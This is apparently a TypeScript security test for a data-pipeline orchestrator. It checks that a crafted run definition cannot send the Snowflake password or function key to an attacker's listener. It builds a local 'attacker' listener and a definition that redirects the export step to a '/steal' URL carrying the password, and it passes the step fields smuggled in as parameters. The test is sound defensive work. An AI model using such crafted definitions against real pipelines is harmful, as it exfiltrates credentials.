/**
 * A run started with a crafted definition sends no secret anywhere the deployed definition does
 * not (issue 11, item 1). The crafted export step points at a local listener and asks for the
 * Snowflake password as its function key, the way the attack in issue 11 did. It is tried through
 * every door that starts an orchestration: the HTTP API, the Durable client, and the Durable
 * webhook on the development host. The listener must receive nothing at all, the secret canary
 * (the password and the function key) must be in no history, status, answer or record, and a run
 * whose definition differs from the deployed one must fail permanently, saying so.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { ORCHESTRATOR_NAMES, type RunInput, type RunState } from '../../src/engine/types';
import type { PipelineDefinition } from '../../src/pipelines/schema';
import { definitionVersion } from '../../src/pipelines/version';
import { startApp, FUNCTION_KEY, type AppHarness } from '../support/appHarness';
import { withCanary, type Canary } from '../support/canary';

interface Received {
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** The attacker's listener: records every request it gets. */
async function startListener(): Promise<{ url: string; received: Received[]; close(): Promise<void> }> {
  const received: Received[] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    received,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

let app: AppHarness;
let canary: Canary;
let listener: Awaited<ReturnType<typeof startListener>>;
let deployed: PipelineDefinition;

before(async () => {
  app = await startApp();
  listener = await startListener();
  // Every secret the crafted run could aim at is the canary: the export key and the Snowflake password.
  canary = withCanary();
  app.world.exportFunction.config.key = canary.value;
  app.world.keyVault.setSecret('azure-function-key', canary.value);
  app.world.keyVault.setSecret('snowflake-password', canary.value);
  app.world.snowflake.setUser('PIPELINE_LOADER', { password: canary.value });
  app.services.secrets.invalidate('azure-function-key');
  app.services.secrets.invalidate('snowflake-password');
  const seed = app.services.catalog.get('data-pipeline');
  if (!seed) throw new Error('the seed pipeline is not deployed');
  deployed = seed;
});
after(async () => {
  await listener.close();
  await app.stop();
});

/** The deployed seed with its export step aimed at the listener, carrying the Snowflake password as its key. */
function craftedDefinition(): PipelineDefinition {
  return {
    ...deployed,
    steps: deployed.steps.map((step) =>
      step.id === 'export' && step.kind === 'azureFunction' ? { ...step, url: `${listener.url}/steal`, functionKey: { secret: 'snowflake-password' }, retry: { ...step.retry, attempts: 1 } } : step,
    ),
    alerts: [{ on: ['failed', 'succeeded'], channel: 'slack', webhook: { secret: 'snowflake-password' } }],
  };
}

function craftedInput(runId: string, version: 'its own' | 'the deployed one'): RunInput {
  const pipeline = craftedDefinition();
  return {
    pipeline,
    definitionVersion: version === 'its own' ? definitionVersion(pipeline) : definitionVersion(deployed),
    runId,
    trigger: { kind: 'manual' },
    // The deployed seed's parameters, as a caller who knows them would send (`day` has no run date to default to here).
    parameters: { day: '2026-11-28' },
  };
}

async function finalState(runId: string): Promise<RunState> {
  const status = await app.host.waitFor(runId, { timeoutMs: 60_000 });
  assert.equal(String(status.runtimeStatus), 'Completed', `run ${runId}: ${JSON.stringify(status.output)}`);
  return status.output as RunState;
}

/** Nothing reached the listener, and the canary is nowhere the app keeps or answers with. */
async function assertNothingLeaked(runId: string): Promise<void> {
  assert.deepEqual(listener.received, [], 'the listener was called');
  for (const id of app.host.instanceIds()) canary.assertNoCanary(app.host.executions(id), app.host.status(id));
  canary.assertNoCanary(await app.store.getRun(runId), await app.store.getAttempts(runId));
  for (const path of [`runs/${runId}`, `runs/${runId}/logs?limit=1000`]) canary.assertNoCanary((await app.api('GET', path)).text);
  canary.assertNoCanary(app.world.slack.posts);
}

function assertFailedOnChangedDefinition(state: RunState): void {
  assert.equal(state.status, 'failed');
  assert.equal(state.error?.stepId, 'export');
  assert.equal(state.error?.class, 'permanent');
  assert.match(state.error?.message ?? '', /definition of pipeline "data-pipeline" changed since the run started .*redeployed while running\?/);
  // A permanent failure is retried neither by the step's policy nor by the pipeline retry
  // (unless the definition sets pipelineRetry.retryPermanent, which the seed does not).
  const attempts = state.steps.find((s) => s.id === 'export')?.attempts ?? [];
  assert.equal(deployed.pipelineRetry.retryPermanent, false);
  assert.equal(attempts.length, 1);
  assert.ok(attempts.every((a) => a.status === 'failed' && a.error?.class === 'permanent'), JSON.stringify(attempts));
  assert.deepEqual(
    state.steps.filter((s) => s.id !== 'export').map((s) => s.status),
    ['skipped', 'skipped'],
  );
}

describe('a run started with a crafted definition', () => {
  test('cannot be started through the HTTP API: it takes a pipeline name and parameters only', async () => {
    const crafted = craftedInput('unused', 'its own');
    const withDefinition = await app.api<{ invalidFields?: { field: string; message: string }[] }>('POST', 'pipelines/data-pipeline/runs', { pipeline: crafted.pipeline, definitionVersion: crafted.definitionVersion });
    assert.equal(withDefinition.status, 400, withDefinition.text);
    assert.deepEqual(withDefinition.json.invalidFields?.map((f) => f.field).sort(), ['body.definitionVersion', 'body.pipeline']);
    // A step's fields smuggled in as parameters are unknown parameters.
    const asParameters = await app.api('POST', 'pipelines/data-pipeline/runs', { parameters: { url: `${listener.url}/steal`, functionKey: { secret: 'snowflake-password' } } });
    assert.equal(asParameters.status, 400, asParameters.text);
    assert.match(asParameters.text, /parameters\.url/);
    assert.equal(app.runInstances().length, 0);
    assert.deepEqual(listener.received, []);
  });

  test('through the Durable client fails permanently naming the changed definition, and sends nothing', async () => {
    const runId = 'crafted-client';
    await app.host.client.startNew(ORCHESTRATOR_NAMES.runPipeline, { instanceId: runId, input: craftedInput(runId, 'its own') });
    assertFailedOnChangedDefinition(await finalState(runId));
    await assertNothingLeaked(runId);
  });

  test('through the raw Durable webhook fails the same way, and sends nothing', async () => {
    const runId = 'crafted-webhook';
    const response = await fetch(`${app.baseUrl}/runtime/webhooks/durabletask/orchestrators/${ORCHESTRATOR_NAMES.runPipeline}/${runId}?code=${FUNCTION_KEY}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(craftedInput(runId, 'its own')),
    });
    assert.equal(response.status, 202, await response.text());
    assertFailedOnChangedDefinition(await finalState(runId));
    await assertNothingLeaked(runId);
  });

  test('claiming the deployed version runs the deployed steps: the secrets go only where the deployed definition sends them', async () => {
    const runId = 'crafted-claims-deployed';
    const exportCalls = app.world.exportFunction.calls.length;
    await app.host.client.startNew(ORCHESTRATOR_NAMES.runPipeline, { instanceId: runId, input: craftedInput(runId, 'the deployed one') });
    const state = await finalState(runId);
    assert.equal(state.status, 'succeeded', JSON.stringify(state.error));
    // The deployed export function got the deployed key; the listener got nothing.
    const calls = app.world.exportFunction.calls.slice(exportCalls);
    assert.ok(calls.length >= 1 && calls.every((c) => c.headers['x-functions-key'] === canary.value), 'the deployed export step ran with the deployed key');
    await assertNothingLeaked(runId);
  });

  test('a step the deployed definition does not have fails permanently, naming it', async () => {
    const runId = 'crafted-extra-step';
    const input = craftedInput(runId, 'the deployed one');
    const steal = { ...input.pipeline.steps[0], id: 'steal' } as PipelineDefinition['steps'][number];
    const pipeline: PipelineDefinition = { ...input.pipeline, steps: [steal] };
    await app.host.client.startNew(ORCHESTRATOR_NAMES.runPipeline, { instanceId: runId, input: { ...input, pipeline } });
    const state = await finalState(runId);
    assert.equal(state.status, 'failed');
    assert.equal(state.error?.class, 'permanent');
    assert.match(state.error?.message ?? '', /pipeline "data-pipeline" has no step "steal"/);
    await assertNothingLeaked(runId);
  });
});
